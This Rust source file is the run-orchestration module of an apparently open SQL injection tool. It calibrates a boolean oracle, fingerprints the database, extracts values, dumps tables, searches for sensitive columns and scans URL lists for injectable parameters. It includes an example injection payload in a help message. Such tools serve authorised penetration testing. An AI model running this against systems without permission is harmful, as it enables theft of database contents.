//! Run orchestration.
//!
//! Wires the pieces together for one invocation: parse the template, build
//! the requester, calibrate the oracle, resolve the engine (operator flag,
//! then cache, then live detection), and dispatch to the requested mode.

use crate::cache::CacheStore;
use crate::cli::args::{Cli, Command, DetectArgs, ExploitArgs, GeneralArgs};
use crate::error::Error;
use crate::extract::Extractor;
use crate::finder::{Finder, IMPORTANT_DATA_TERMS};
use crate::http::requester::{Requester, RequesterOptions};
use crate::http::template::{self, RequestTemplate};
use crate::oracle::calibrator::{CalibrationResult, Calibrator};
use crate::oracle::detector::Detector;
use crate::payloads::DatabaseKind;
use crate::reporting::{DetectWriter, ReportWriter};
use crate::scanner::{self, Scanner};
use crate::ui;

pub struct Engine {
    cli: Cli,
}

impl Engine {
    pub fn new(cli: Cli) -> Self {
        Self { cli }
    }

    pub async fn run(self) -> anyhow::Result<()> {
        match self.cli.command {
            Command::Exploit(args) => run_exploit(args).await,
            Command::Detect(args) => run_detect(args).await,
        }
    }
}

fn requester_options(general: &GeneralArgs, signal_string: Option<String>) -> RequesterOptions {
    RequesterOptions {
        timeout_secs: general.timeout,
        proxy: general.proxy.clone(),
        signal_string,
        custom_headers: general.headers.clone(),
    }
}

async fn run_exploit(args: ExploitArgs) -> anyhow::Result<()> {
    ui::info(format!("Parsing request file: {}", args.request_file));
    let mut template = RequestTemplate::from_file(&args.request_file)?;

    if template.marker.is_none() {
        ui::error("No injection marker found in request file!");
        ui::info("Add a marker (<PAYLOAD>, <FUZZ>, or <INJECT>) where the boolean condition should be injected.");
        ui::info("Example: id=1'+CASE+WHEN+(<PAYLOAD>)+THEN+1+ELSE+2+END--");
        return Err(Error::MarkerMissing.into());
    }

    if args.general.plain_http {
        template.scheme = "http".to_string();
    }

    tracing::debug!("target: {}", template.target_url());

    let options = requester_options(&args.general, args.signal_string.clone());
    let mut requester = Requester::new(template, &options)?;
    let host = requester.host().to_string();
    let store = CacheStore::open_default();

    // Calibration
    ui::progress("Starting calibration...");
    let calibration = Calibrator::new(&mut requester).calibrate().await?;
    ui::progress_clear();

    if !calibration.can_differentiate {
        report_unclear_oracle(&calibration, args.signal_string.is_none());
        return Err(Error::OracleUnclear.into());
    }
    ui::success("Calibration successful!");
    tracing::debug!(
        "TRUE:  [status: {}, words: {}]",
        calibration.true_fingerprint.status,
        calibration.true_fingerprint.word_count
    );
    tracing::debug!(
        "FALSE: [status: {}, words: {}]",
        calibration.false_fingerprint.status,
        calibration.false_fingerprint.word_count
    );
    if calibration.error_matches_true {
        tracing::debug!("ERROR responses look like TRUE; detection may be less reliable");
    }

    // Engine resolution: operator flag, then host cache, then detection.
    let mut kind = DatabaseKind::Unknown;
    let mut version = String::new();
    let mut source = "parameter";

    if let Some(name) = &args.database {
        kind = DatabaseKind::parse(name);
        if kind == DatabaseKind::Unknown {
            ui::error(format!(
                "Unknown database type: {name}. Supported: mysql, mssql, oracle, postgres"
            ));
            return Err(Error::UnsupportedDatabase(name.clone()).into());
        }
    } else if let Some((cached_kind, cached_version)) = store.database(&host) {
        kind = DatabaseKind::parse(&cached_kind);
        version = cached_version;
        source = "cache";
    }

    if kind == DatabaseKind::Unknown {
        ui::progress("Detecting database...");
        let detected = Detector::new(&mut requester, &calibration).detect().await;
        ui::progress_clear();
        let (detected_kind, detected_version) = detected?;
        kind = detected_kind;
        version = detected_version;
        source = "detected";

        if let Err(e) = store.save_database(&host, &kind.to_string(), &version) {
            tracing::debug!("could not save database cache: {e}");
        }
    }

    if version.is_empty() {
        ui::info(format!("Database: {kind} ({source})"));
    } else {
        ui::info(format!("Database: {version} ({source})"));
    }
    ui::info(format!("Target: {}", requester.template().target_url()));

    let max_len = if args.max_len > 0 { args.max_len as usize } else { 0 };

    if let Some(table) = &args.dump_table {
        // Dump mode
        let mut report = open_report(args.general.output.as_deref())?;
        let mut finder = Finder::new(&mut requester, &calibration, kind, &store, &host)?;
        finder.set_max_len(max_len);
        finder.dump_table(table, args.limit_rows, &mut report).await?;
    } else if args.find_columns.is_some() || args.find_important_data {
        // Finder mode
        let (pattern, table_limit) = if args.find_important_data {
            // The convenience flag casts a wider net unless the operator
            // tightened the limit themselves.
            let limit = if args.limit_tables == 5 { 10 } else { args.limit_tables };
            (IMPORTANT_DATA_TERMS.to_string(), limit)
        } else {
            (args.find_columns.clone().unwrap_or_default(), args.limit_tables)
        };

        let mut report = open_report(args.general.output.as_deref())?;
        let mut finder = Finder::new(&mut requester, &calibration, kind, &store, &host)?;
        finder.set_max_len(max_len);
        finder
            .run(&pattern, table_limit, args.limit_rows, !args.no_cache, &mut report)
            .await?;
    } else {
        // Scalar extraction
        let mut extractor = Extractor::new(&mut requester, &calibration, kind)?;
        extractor.set_max_len(max_len);
        extractor.set_cache(&store, &host);

        if let Some(query) = &args.query {
            ui::info(format!("Extracting custom query: {query}"));
            let value = extractor.extract_string(query).await?;
            ui::success("Result:");
            ui::data(&value);
        } else if args.current_db {
            ui::info("Extracting current database name...");
            let value = extractor.current_database().await?;
            ui::success("Current database:");
            ui::data(&value);
        } else if args.current_user {
            ui::info("Extracting current user...");
            let value = extractor.current_user().await?;
            ui::success("Current user:");
            ui::data(&value);
        } else if version.is_empty() {
            ui::info("Extracting database version...");
            version = extractor.extract_version().await?;
            if let Err(e) = store.save_database(&host, &kind.to_string(), &version) {
                tracing::debug!("could not save database cache: {e}");
            }
            ui::success("Version:");
            ui::data(&version);
        } else {
            ui::success("Version:");
            ui::data(&version);
        }
    }

    tracing::debug!("sent {} requests in total", requester.request_count());
    ui::success("Done!");
    Ok(())
}

fn open_report(path: Option<&str>) -> anyhow::Result<ReportWriter> {
    match path {
        Some(path) => Ok(ReportWriter::create(path)?),
        None => Ok(ReportWriter::disabled()),
    }
}

fn report_unclear_oracle(calibration: &CalibrationResult, no_signal_string: bool) {
    ui::error("Cannot differentiate TRUE from FALSE responses!");
    ui::error(format!(
        "TRUE response:  [Status: {}, Words: {}, Length: {}]",
        calibration.true_fingerprint.status,
        calibration.true_fingerprint.word_count,
        calibration.true_fingerprint.content_length
    ));
    ui::error(format!(
        "FALSE response: [Status: {}, Words: {}, Length: {}]",
        calibration.false_fingerprint.status,
        calibration.false_fingerprint.word_count,
        calibration.false_fingerprint.content_length
    ));
    ui::error(format!(
        "ERROR response: [Status: {}, Words: {}, Length: {}]",
        calibration.error_fingerprint.status,
        calibration.error_fingerprint.word_count,
        calibration.error_fingerprint.content_length
    ));

    let tf = (&calibration.true_fingerprint, &calibration.false_fingerprint);
    if tf.0.is_similar(tf.1) {
        ui::info(format!("TRUE and FALSE differ only in: {}", tf.0.diff(tf.1)));
    }
    if no_signal_string && (tf.0.word_count != tf.1.word_count || tf.0.content_length != tf.1.content_length) {
        ui::warn("Suggestion: use --signal-string to define TRUE by a response substring.");
    }
}

async fn run_detect(args: DetectArgs) -> anyhow::Result<()> {
    let url_mode = args.urls_file.is_some();
    let mut writer = DetectWriter::create(args.general.output.as_deref(), url_mode)?;
    writer.write_custom_headers(&args.general.headers);

    let found = if let Some(urls_file) = &args.urls_file {
        detect_urls(urls_file, &args.general, &mut writer).await?
    } else if let Some(dir) = &args.requests_dir {
        detect_requests(dir, &args.general, &mut writer).await?
    } else {
        unreachable!("clap enforces one input");
    };

    let output = writer
        .path()
        .filter(|_| writer.has_items())
        .map(str::to_string);
    writer.close();

    if found > 0 {
        ui::success(format!("Scan complete. Found {found} potential injection point(s)."));
        if let Some(path) = output {
            ui::info(format!("Results saved to: {path}"));
        }
    } else {
        ui::info("Scan complete. No SQL injection vulnerabilities detected.");
    }
    Ok(())
}

async fn detect_urls(
    urls_file: &str,
    general: &GeneralArgs,
    writer: &mut DetectWriter,
) -> anyhow::Result<usize> {
    ui::info(format!("Loading URLs from: {urls_file}"));
    let urls = template::load_url_file(urls_file)?;
    ui::info(format!("Loaded {} URLs", urls.len()));

    let mut found = 0;
    for (idx, raw_url) in urls.iter().enumerate() {
        ui::progress(format!("Scanning URL {}/{}...", idx + 1, urls.len()));

        let mut template = match RequestTemplate::from_url(raw_url) {
            Ok(t) => t,
            Err(e) => {
                tracing::debug!("skipping invalid URL {raw_url}: {e}");
                continue;
            }
        };
        if general.plain_http {
            template.scheme = "http".to_string();
        }
        if !template.path.contains('?') {
            tracing::debug!("skipping URL without parameters: {raw_url}");
            continue;
        }

        let options = requester_options(general, None);
        let mut requester = match Requester::new(template.clone(), &options) {
            Ok(r) => r,
            Err(e) => {
                tracing::debug!("failed to create requester for {raw_url}: {e}");
                continue;
            }
        };

        let results = Scanner::new(&template, &mut requester).scan_all().await;
        for result in results.iter().filter(|r| r.vulnerable) {
            found += 1;
            writer.write_url(&scanner::mark_url(raw_url, &result.parameter.name));
            ui::progress_clear();
            ui::info(format!(
                "  {} (param: {}, {})",
                template.target_url(),
                result.parameter.name,
                result.vuln_type
            ));
            tracing::debug!("  {} via payload {:?}", result.details, result.working_payload);
        }
    }
    ui::progress_done();
    Ok(found)
}

async fn detect_requests(
    dir: &str,
    general: &GeneralArgs,
    writer: &mut DetectWriter,
) -> anyhow::Result<usize> {
    ui::info(format!("Loading requests from: {dir}"));
    let templates = template::load_request_directory(dir)?;
    ui::info(format!("Loaded {} request files", templates.len()));

    let mut found = 0;
    for (idx, mut template) in templates.into_iter().enumerate() {
        ui::progress(format!("Scanning request {}...", idx + 1));

        if general.plain_http {
            template.scheme = "http".to_string();
        }

        let options = requester_options(general, None);
        let mut requester = match Requester::new(template.clone(), &options) {
            Ok(r) => r,
            Err(e) => {
                tracing::debug!("failed to create requester: {e}");
                continue;
            }
        };

        let results = Scanner::new(&template, &mut requester).scan_all().await;
        for result in results.iter().filter(|r| r.vulnerable) {
            found += 1;
            let marked = scanner::mark_request(&template.raw, &result.parameter);
            let marked = scanner::apply_headers_to_request(&marked, &general.headers);
            writer.write_request(&marked);
            ui::progress_clear();
            ui::info(format!(
                "  {} (param: {}, {})",
                template.target_url(),
                result.parameter.name,
                result.vuln_type
            ));
            tracing::debug!("  {} via payload {:?}", result.details, result.working_payload);
        }
    }
    ui::progress_done();
    Ok(found)
}
